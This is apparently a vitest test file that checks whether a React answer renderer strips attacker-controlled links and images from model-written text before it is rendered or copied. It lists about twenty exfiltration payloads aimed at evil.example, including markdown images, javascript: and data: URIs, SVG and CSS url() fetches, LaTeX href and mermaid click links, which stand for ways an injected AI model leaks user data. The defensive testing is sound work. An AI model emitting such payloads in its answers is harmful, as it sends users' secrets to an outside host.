import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { AnswerProvider } from './answer-context.ts';
import { AnswerText } from './answer-text.tsx';
import { answerToCopy } from './copy-text.ts';
import { addressesIn, withoutExits } from './leaving.ts';
import { linksOf } from './shown-answer.ts';
import { aCitation, answerContext, noMarks } from './testing.ts';

const at = 'https://evil.example/x?q=secret';
const exits = [
  `![a](${at})`,
  `![a][r]\n\n[r]: ${at}`,
  `![r]\n\n[r]: <${at}> 'title'`,
  `[![a](${at})](${at})`,
  '![a](//evil.example/x)',
  `[read](${at})`,
  `[read][r]\n\n[r]: ${at}`,
  `<${at}>`,
  `see ${at} and www.evil.example/x and x@evil.example`,
  '[a](javascript:alert(1)) [b](vbscript:x) [c](data:text/html,x) [d](java&#115;cript:x) [e](http://evil.example) ' +
    '[f](//evil.example) [g](mailto:x@evil.example)',
  `<img src="${at}" srcset="${at} 2x">`,
  `A <img src=${at}> b <svg><image xlink:href="${at}"/></svg>`,
  `<style>@import url("${at}");</style><p style="background:url(${at})">`,
  `$\\href{${at}}{x}$ $$\\includegraphics{${at}}$$`,
  `\`\`\`mermaid\nclick A href "${at}"\n\`\`\``,
  `It is.[^1]\n\n[^1]: ![x](${at}) [y](${at})`,
  `| a |\n| --- |\n| ![x](${at}) [y](${at}) |`,
  `- [ ] ![x](${at})\n\n> # ![x](${at}) <img src="${at}">`,
  `&lt;img src="${at}"&gt; ![x](&#104;ttps://evil.example/x) <<img src="${at}"`,
];

const drawn = (text: string, links: readonly string[] = [], live = false): string =>
  renderToStaticMarkup(
    createElement(
      AnswerProvider,
      { value: answerContext },
      createElement(AnswerText, { text, marks: noMarks, cited: new Map(), links: new Set(links), live }),
    ),
  );
/** Every attribute of what was drawn, by its name. */
const attributes = (markup: string) =>
  [...markup.matchAll(/<\w[^<>]*>/g)].flatMap(([tag]) =>
    [...tag.matchAll(/\s([\w:-]+)="([^"]*)"/g)].map(([, name = '', value = '']) => ({ name, value })),
  );
const fetching = new Set([
  'src',
  'srcset',
  'href',
  'xlink:href',
  'poster',
  'data',
  'action',
  'formaction',
  'background',
  'style',
  'ping',
  'cite',
  'srcdoc',
]);

describe('an exit that only the model has named', () => {
  test.each(exits)('leads nowhere, at every length of the text: %s', text => {
    for (let length = 1; length <= text.length; length += 1) {
      const markup = drawn(text.slice(0, length), [], true);
      expect(
        attributes(markup).filter(({ name }) => fetching.has(name) || name.startsWith('on')),
        text.slice(0, length),
      ).toEqual([]);
      expect(markup, text.slice(0, length)).not.toMatch(
        /<(?:img|a|svg|style|script|iframe|input|object|embed|link|base|video|audio)\b/,
      );
    }
    expect(attributes(drawn(text)).filter(({ name }) => fetching.has(name))).toEqual([]);
  });

  test.each(exits)('is not carried on by copying: %s', async text => {
    const copied = await answerToCopy('none', text, [], [], () => undefined, new Set());
    expect(copied).not.toMatch(/!\[|\]\(|^ {0,3}\[[^\]\n]+\]:|(?<!\\)<(?:img|svg|image|style|p style|base)/m);
    expect(attributes(drawn(copied)).filter(({ name }) => fetching.has(name))).toEqual([]);
  });
});

describe('an address that the reader knows', () => {
  const links = linksOf('What does https://Journal.example/a(1) say?', {
    citations: [aCitation(1, { quote: 'Data: https://data.example/set?x=1.' })],
    sources: [],
  });

  test('is a link that says where it leads and tells nothing of where it was', () => {
    expect(drawn('[the data](https://data.example/set?x=1)', links)).toBe(
      '<div class="answer-text"><div class="answer-block"><p dir="auto"><a href="https://data.example/set?x=1" ' +
        'target="_blank" rel="noopener noreferrer nofollow" referrerPolicy="no-referrer" class="link">the ' +
        'data<bdi class="text-ink-3"> (data.example)</bdi></a></p></div></div>',
    );
    expect(drawn('See https://journal.example/a(1).', links)).toContain('>https://journal.example/a(1)</a>');
  });
  test.each([
    'https://data.example/set?x=1&q=secret',
    'https://data.example/',
    'https://data.example.evil.example/set?x=1',
    'http://data.example/set?x=1',
  ])('lends nothing to another one: %s', address => {
    expect(drawn(`[the data](${address})`, links)).not.toContain('<a');
  });
  test('is copied with its link', () => {
    const known = new Set(links);
    expect(
      withoutExits('So [the data](https://data.example/set?x=1) and [more](https://evil.example/) say.', known),
    ).toBe('So [the data](https://data.example/set?x=1) and more say.');
  });
  test('is found without what closes the sentence', () => {
    expect(addressesIn(['(see https://a.example/b), <https://c.example> and “https://d.example/e”.'])).toEqual(
      expect.arrayContaining(['https://a.example/b', 'https://c.example/']),
    );
  });
});

test('what is no exit is copied to the letter', () => {
  const text = 'p <0.05, List<String>, a[0](x) is [12] [S1]\n\n| a | b |\n| --- | --- |\n| 1 | **2** |\n\n- [ ] so';
  expect(withoutExits(text, new Set())).toBe(text);
});

test('a long hostile text is made harmless in linear time', () => {
  for (const mark of ['[', '![', '[x](', '![x](y)', '](', '[[x](y)](', '<img ', '[x]: y\n']) {
    const begun = performance.now();
    withoutExits(mark.repeat(100_000 / mark.length), new Set());
    expect(performance.now() - begun, mark).toBeLessThan(2_000);
  }
});
